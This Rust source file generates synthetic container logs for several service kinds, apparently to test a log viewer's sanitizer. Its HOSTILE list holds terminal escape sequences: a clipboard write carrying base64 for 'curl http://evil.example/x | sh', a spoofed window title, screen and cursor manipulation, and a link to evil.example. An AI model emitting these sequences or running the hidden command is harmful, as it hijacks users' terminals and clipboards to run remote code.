//! What the generated lines say: each container kind's own voice, start-up and farewell
//! lines, bursts, and the hostile lines a sanitizer must make harmless.

use chrono::{DateTime, Utc};
use fastrand::Rng;

use super::Ending;
use crate::catalog::Kind;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Level {
    Debug,
    Info,
    Warn,
    Error,
}

impl Level {
    fn pick(rng: &mut Rng) -> Level {
        match rng.u8(0..100) {
            0..8 => Level::Debug,
            8..84 => Level::Info,
            84..94 => Level::Warn,
            _ => Level::Error,
        }
    }

    fn upper(self) -> &'static str {
        match self {
            Level::Debug => "DEBUG",
            Level::Info => "INFO",
            Level::Warn => "WARN",
            Level::Error => "ERROR",
        }
    }

    fn lower(self) -> &'static str {
        match self {
            Level::Debug => "debug",
            Level::Info => "info",
            Level::Warn => "warn",
            Level::Error => "error",
        }
    }

    /// SGR colour as a tracing-style logger paints it.
    fn colour(self) -> &'static str {
        match self {
            Level::Debug => "\x1b[34m",
            Level::Info => "\x1b[32m",
            Level::Warn => "\x1b[33m",
            Level::Error => "\x1b[31m",
        }
    }
}

fn iso(at: DateTime<Utc>) -> String {
    at.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string()
}

fn pick<'a>(rng: &mut Rng, items: &[&'a str]) -> &'a str {
    items[rng.usize(0..items.len())]
}

const PATHS: &[&str] = &[
    "/",
    "/healthz",
    "/api/orders",
    "/api/orders/4211",
    "/api/cart",
    "/api/users/me",
    "/static/app.3f9c1.js",
    "/static/app.3f9c1.css",
    "/api/search?q=lamp",
    "/login",
];
const API_ROUTES: &[&str] = &[
    "/v1/orders",
    "/v1/orders/:id",
    "/v1/cart",
    "/v1/users/:id",
    "/v1/search",
    "/v1/payments",
    "/v1/inventory/:sku",
];
const METHODS: &[&str] = &["GET", "GET", "GET", "POST", "PUT", "DELETE"];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 Safari/605.1.15",
    "curl/8.11.1",
    "ELB-HealthChecker/2.0",
    "okhttp/4.12.0",
];
const TABLES: &[&str] = &[
    "orders",
    "order_items",
    "users",
    "carts",
    "inventory",
    "payments",
];
const JOBS: &[&str] = &[
    "send-receipt",
    "resize-image",
    "sync-inventory",
    "expire-carts",
    "rebuild-search-index",
];
const BUCKETS: &[&str] = &[
    "s3://acme-raw/events",
    "s3://acme-raw/clicks",
    "s3://acme-raw/orders",
];

/// A line in the container's own voice: a native format, or a structured event written as
/// plain text, JSON or ANSI-coloured text.
pub(super) fn line(kind: Kind, container: &str, rng: &mut Rng, at: DateTime<Utc>) -> String {
    let level = Level::pick(rng);
    match kind {
        Kind::Web if rng.u8(0..10) < 7 => access_log(rng, at),
        Kind::Db if rng.u8(0..10) < 7 => postgres(rng, level, at),
        Kind::Cache if rng.u8(0..10) < 8 => redis(rng, at),
        Kind::LogRouter if rng.u8(0..10) < 8 => fluent_bit(rng, level, at),
        _ => {
            let (msg, fields) = event(kind, container, level, rng);
            match rng.u8(0..10) {
                0..4 => json_line(level, at, &msg, &fields),
                4..7 => ansi_line(level, at, container, &msg, &fields),
                _ => plain_line(level, at, &msg, &fields),
            }
        }
    }
}

/// A structured event: a message and `key=value` fields (values already JSON literals).
fn event(
    kind: Kind,
    container: &str,
    level: Level,
    rng: &mut Rng,
) -> (String, Vec<(String, String)>) {
    let latency = match level {
        Level::Warn | Level::Error => rng.u32(800..5000),
        _ => rng.u32(2..180),
    };
    let request_id = format!("\"{:08x}\"", rng.u32(..));
    match (kind, level) {
        (Kind::Api | Kind::Web, Level::Error) => (
            "upstream request failed".into(),
            vec![
                ("route".into(), format!("\"{}\"", pick(rng, API_ROUTES))),
                ("error".into(), "\"context deadline exceeded\"".into()),
                ("latency_ms".into(), latency.to_string()),
                ("request_id".into(), request_id),
            ],
        ),
        (Kind::Api | Kind::Web, Level::Warn) => (
            "slow request".into(),
            vec![
                ("method".into(), format!("\"{}\"", pick(rng, METHODS))),
                ("route".into(), format!("\"{}\"", pick(rng, API_ROUTES))),
                ("latency_ms".into(), latency.to_string()),
            ],
        ),
        (Kind::Api | Kind::Web, Level::Debug) => (
            "cache lookup".into(),
            vec![
                ("key".into(), format!("\"user:{}\"", rng.u32(1000..9999))),
                ("hit".into(), rng.bool().to_string()),
            ],
        ),
        (Kind::Api | Kind::Web, Level::Info) => {
            let status = pick(rng, &["200", "200", "200", "201", "204", "304", "404"]);
            (
                "request completed".into(),
                vec![
                    ("method".into(), format!("\"{}\"", pick(rng, METHODS))),
                    ("route".into(), format!("\"{}\"", pick(rng, API_ROUTES))),
                    ("status".into(), status.into()),
                    ("latency_ms".into(), latency.to_string()),
                    ("request_id".into(), request_id),
                ],
            )
        }
        (Kind::Worker, Level::Error) => (
            "job failed, will retry".into(),
            vec![
                ("job".into(), format!("\"{}\"", pick(rng, JOBS))),
                ("attempt".into(), rng.u8(1..5).to_string()),
                ("error".into(), "\"timeout waiting for lock\"".into()),
            ],
        ),
        (Kind::Worker, Level::Warn) => (
            "queue depth above threshold".into(),
            vec![("depth".into(), rng.u32(500..4000).to_string())],
        ),
        (Kind::Worker, _) => (
            "job completed".into(),
            vec![
                ("job".into(), format!("\"{}\"", pick(rng, JOBS))),
                ("id".into(), format!("\"{:012x}\"", rng.u64(..) >> 16)),
                ("latency_ms".into(), latency.to_string()),
            ],
        ),
        (Kind::Pipeline, Level::Error) => (
            format!("{container}: record rejected"),
            vec![
                (
                    "reason".into(),
                    "\"schema mismatch: field `amount` is not a number\"".into(),
                ),
                ("offset".into(), rng.u64(10_000..9_000_000).to_string()),
            ],
        ),
        (Kind::Pipeline, Level::Warn) => (
            format!("{container}: batch retried"),
            vec![("source".into(), format!("\"{}\"", pick(rng, BUCKETS)))],
        ),
        (Kind::Pipeline, _) => (
            format!("{container}: batch processed"),
            vec![
                ("records".into(), rng.u32(100..5000).to_string()),
                ("source".into(), format!("\"{}\"", pick(rng, BUCKETS))),
                ("latency_ms".into(), latency.to_string()),
            ],
        ),
        (Kind::Metrics, _) => (
            "scrape finished".into(),
            vec![
                ("series".into(), rng.u32(1200..1900).to_string()),
                ("latency_ms".into(), latency.to_string()),
            ],
        ),
        (Kind::Db | Kind::Cache | Kind::LogRouter, _) => (
            "health probe".into(),
            vec![("latency_ms".into(), latency.to_string())],
        ),
    }
}

fn json_line(level: Level, at: DateTime<Utc>, msg: &str, fields: &[(String, String)]) -> String {
    let mut out = format!(
        "{{\"level\":\"{}\",\"time\":\"{}\",\"msg\":{}",
        level.lower(),
        iso(at),
        serde_json::Value::from(msg)
    );
    for (key, value) in fields {
        out.push_str(&format!(",\"{key}\":{value}"));
    }
    out.push('}');
    out
}

fn ansi_line(
    level: Level,
    at: DateTime<Utc>,
    target: &str,
    msg: &str,
    fields: &[(String, String)],
) -> String {
    let mut out = format!(
        "\x1b[2m{}\x1b[0m {}{:>5}\x1b[0m \x1b[2m{target}:\x1b[0m {msg}",
        iso(at),
        level.colour(),
        level.upper()
    );
    for (key, value) in fields {
        out.push_str(&format!(" \x1b[3m{key}\x1b[0m={}", value.trim_matches('"')));
    }
    out
}

fn plain_line(level: Level, at: DateTime<Utc>, msg: &str, fields: &[(String, String)]) -> String {
    let mut out = format!("{} {:<5} {msg}", iso(at), level.upper());
    for (key, value) in fields {
        out.push_str(&format!(" {key}={value}"));
    }
    out
}

fn access_log(rng: &mut Rng, at: DateTime<Utc>) -> String {
    let status = pick(
        rng,
        &[
            "200", "200", "200", "200", "304", "301", "404", "499", "502",
        ],
    );
    format!(
        "10.0.{}.{} - - [{}] \"{} {} HTTP/1.1\" {status} {} \"-\" \"{}\" rt={:.3}",
        rng.u8(16..48),
        rng.u8(4..250),
        at.format("%d/%b/%Y:%H:%M:%S +0000"),
        pick(rng, METHODS),
        pick(rng, PATHS),
        rng.u32(0..48_000),
        pick(rng, AGENTS),
        rng.f64() * 0.4
    )
}

fn postgres(rng: &mut Rng, level: Level, at: DateTime<Utc>) -> String {
    let stamp = at.format("%Y-%m-%d %H:%M:%S%.3f UTC");
    let pid = rng.u16(60..400);
    match level {
        Level::Error => format!(
            "{stamp} [{pid}] ERROR:  duplicate key value violates unique constraint \"{}_pkey\"",
            pick(rng, TABLES)
        ),
        Level::Warn => format!("{stamp} [{pid}] WARNING:  there is no transaction in progress"),
        Level::Debug => format!(
            "{stamp} [{pid}] LOG:  duration: {:.3} ms  statement: SELECT * FROM {} WHERE id = $1",
            rng.f64() * 40.0,
            pick(rng, TABLES)
        ),
        Level::Info => match rng.u8(0..3) {
            0 => format!("{stamp} [{pid}] LOG:  checkpoint starting: time"),
            1 => format!(
                "{stamp} [{pid}] LOG:  checkpoint complete: wrote {} buffers ({:.1}%); 0 WAL file(s) added, 0 removed, 1 recycled; write={:.3} s, sync={:.3} s, total={:.3} s",
                rng.u16(3..900),
                rng.f64() * 5.0,
                rng.f64() * 30.0,
                rng.f64() * 0.05,
                rng.f64() * 30.0
            ),
            _ => format!(
                "{stamp} [{pid}] LOG:  automatic vacuum of table \"app.public.{}\": index scans: 1",
                pick(rng, TABLES)
            ),
        },
    }
}

fn redis(rng: &mut Rng, at: DateTime<Utc>) -> String {
    let stamp = at.format("%d %b %Y %H:%M:%S%.3f");
    match rng.u8(0..4) {
        0 => format!(
            "1:M {stamp} * {} changes in 60 seconds. Saving...",
            rng.u16(100..20_000)
        ),
        1 => format!(
            "1:M {stamp} * Background saving started by pid {}",
            rng.u16(20..900)
        ),
        2 => format!("{}:C {stamp} * DB saved on disk", rng.u16(20..900)),
        _ => format!("1:M {stamp} * Background saving terminated with success"),
    }
}

fn fluent_bit(rng: &mut Rng, level: Level, at: DateTime<Utc>) -> String {
    let stamp = at.format("%Y/%m/%d %H:%M:%S");
    match level {
        Level::Error => format!(
            "[{stamp}] [error] [output:cloudwatch_logs:cloudwatch_logs.0] PutLogEvents API responded with error='ThrottlingException'"
        ),
        Level::Warn => format!(
            "[{stamp}] [ warn] [engine] failed to flush chunk '1-{}.flb', retry in {} seconds: task_id={}, input=forward.0 > output=cloudwatch_logs.0",
            rng.u32(..),
            rng.u8(1..10),
            rng.u8(0..8)
        ),
        _ => format!(
            "[{stamp}] [ info] [output:cloudwatch_logs:cloudwatch_logs.0] Sent {} events to CloudWatch",
            rng.u16(1..400)
        ),
    }
}

/// Fifty lines at once: a stack trace from code, a traffic spike from servers.
pub(super) fn burst_line(kind: Kind, index: usize, rng: &mut Rng, at: DateTime<Utc>) -> String {
    match kind {
        Kind::Api | Kind::Worker | Kind::Pipeline => {
            if index == 0 {
                return format!(
                    "{} ERROR unhandled rejection: TypeError: Cannot read properties of undefined (reading 'total')",
                    iso(at)
                );
            }
            const FRAMES: &[&str] = &[
                "    at computeTotals (/app/dist/orders/totals.js:41:27)",
                "    at OrderService.price (/app/dist/orders/service.js:118:22)",
                "    at async Promise.all (index 3)",
                "    at async handler (/app/dist/routes/orders.js:57:19)",
                "    at processTicksAndRejections (node:internal/process/task_queues:95:5)",
            ];
            FRAMES[index % FRAMES.len()].to_string()
        }
        Kind::Web => access_log(rng, at),
        _ => line(kind, "", rng, at),
    }
}

pub(super) fn startup_len(kind: Kind) -> usize {
    startup_lines(kind, "").len()
}

fn startup_lines(kind: Kind, container: &str) -> Vec<String> {
    match kind {
        Kind::Web => vec![
            "/docker-entrypoint.sh: Configuration complete; ready for start up".into(),
            "nginx/1.27.3 (Debian) start worker processes".into(),
            "start worker process 29".into(),
        ],
        Kind::Api => vec![
            "> api@2.14.0 start".into(),
            "> node dist/server.js".into(),
            "{\"level\":\"info\",\"msg\":\"listening\",\"port\":3000}".into(),
        ],
        Kind::Db => vec![
            "LOG:  starting PostgreSQL 16.6 on aarch64-unknown-linux-gnu".into(),
            "LOG:  listening on IPv4 address \"0.0.0.0\", port 5432".into(),
            "LOG:  database system is ready to accept connections".into(),
        ],
        Kind::Cache => vec![
            "1:C Redis version=7.4.1, bits=64, commit=00000000, modified=0, pid=1, just started"
                .into(),
            "1:M * Ready to accept connections tcp".into(),
        ],
        Kind::Worker => vec!["worker starting concurrency=8 queue=jobs-default".into()],
        Kind::Pipeline => vec![format!("{container}: stage starting, batch size 500")],
        Kind::LogRouter => vec![
            "Fluent Bit v3.2.4".into(),
            "[ info] [input:forward:forward.0] listening on unix:///var/run/fluent.sock".into(),
        ],
        Kind::Metrics => vec!["Starting Prometheus exporter on :9090".into()],
    }
}

pub(super) fn startup(
    kind: Kind,
    container: &str,
    env: &[(String, String)],
    index: usize,
    at: DateTime<Utc>,
) -> String {
    let lines = startup_lines(kind, container);
    match lines.get(index) {
        Some(line) => format!("{} {line}", iso(at)),
        None => {
            let (key, value) = &env[index - lines.len()];
            format!("{} INFO  config: {key}={value}", iso(at))
        }
    }
}

pub(super) fn farewell_len(kind: Kind, ending: Ending) -> usize {
    farewell_lines(kind, ending, "").len()
}

fn farewell_lines(kind: Kind, ending: Ending, container: &str) -> Vec<String> {
    match (ending, kind) {
        (Ending::Crashed, _) => vec![
            "ERROR failed to connect to queue at redis://localhost:6379: connection refused".into(),
            "ERROR giving up after 5 attempts".into(),
            "panic: worker: queue unavailable".into(),
            "goroutine 1 [running]:".into(),
            "main.main()".into(),
            "\t/src/cmd/worker/main.go:87 +0x1c5".into(),
            "exit status 1".into(),
        ],
        (Ending::OutOfMemory, _) => vec![
            "WARN  heap at 91% of the container's 768 MiB; batch 41 still in flight".into(),
            "WARN  heap at 99% of the container's 768 MiB; GC cannot free enough".into(),
            "fatal error: runtime: out of memory".into(),
        ],
        (Ending::Killed, _) => vec![format!(
            "WARN  {container}: SIGTERM received while a batch is in flight; finishing it first"
        )],
        (Ending::Graceful, Kind::Web) => vec![
            "[notice] 1#1: signal 15 (SIGTERM) received from 1, exiting".into(),
            "[notice] 1#1: exit".into(),
        ],
        (Ending::Graceful, Kind::Api) => vec![
            "{\"level\":\"info\",\"msg\":\"SIGTERM received, draining connections\"}".into(),
            "{\"level\":\"info\",\"msg\":\"server closed\"}".into(),
        ],
        (Ending::Graceful, Kind::Db) => vec![
            "LOG:  received smart shutdown request".into(),
            "LOG:  database system is shut down".into(),
        ],
        (Ending::Graceful, Kind::Cache) => vec![
            "1:signal-handler Received SIGTERM scheduling shutdown...".into(),
            "1:M # Redis is now ready to exit, bye bye...".into(),
        ],
        (Ending::Graceful, _) => vec![
            "INFO  received SIGTERM, shutting down".into(),
            "INFO  shutdown complete".into(),
        ],
    }
}

pub(super) fn farewell(
    kind: Kind,
    ending: Ending,
    container: &str,
    index: usize,
    at: DateTime<Utc>,
) -> String {
    let lines = farewell_lines(kind, ending, container);
    format!("{} {}", iso(at), lines[index])
}

/// Escape sequences a compromised or careless program could print, each inside an
/// otherwise ordinary line: clipboard write, title change, screen clear, cursor moves,
/// a device control string, an 8-bit CSI and a hyperlink.
const HOSTILE: &[&str] = &[
    "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07",
    "\x1b]0;you have been pwned\x07",
    "\x1b[2J\x1b[H",
    "\x1b[10;40H",
    "\x1b[3A\x1b[2K",
    "\x1bP1$r0m\x1b\\",
    "\u{9b}2J",
    "\x1b]8;;http://evil.example/\x07click here\x1b]8;;\x07",
];

pub(super) fn hostile_line(rng: &mut Rng, at: DateTime<Utc>) -> String {
    format!(
        "{} WARN  rejected header X-Debug: \"{}\" from 10.0.{}.{}",
        iso(at),
        pick(rng, HOSTILE),
        rng.u8(16..48),
        rng.u8(4..250)
    )
}
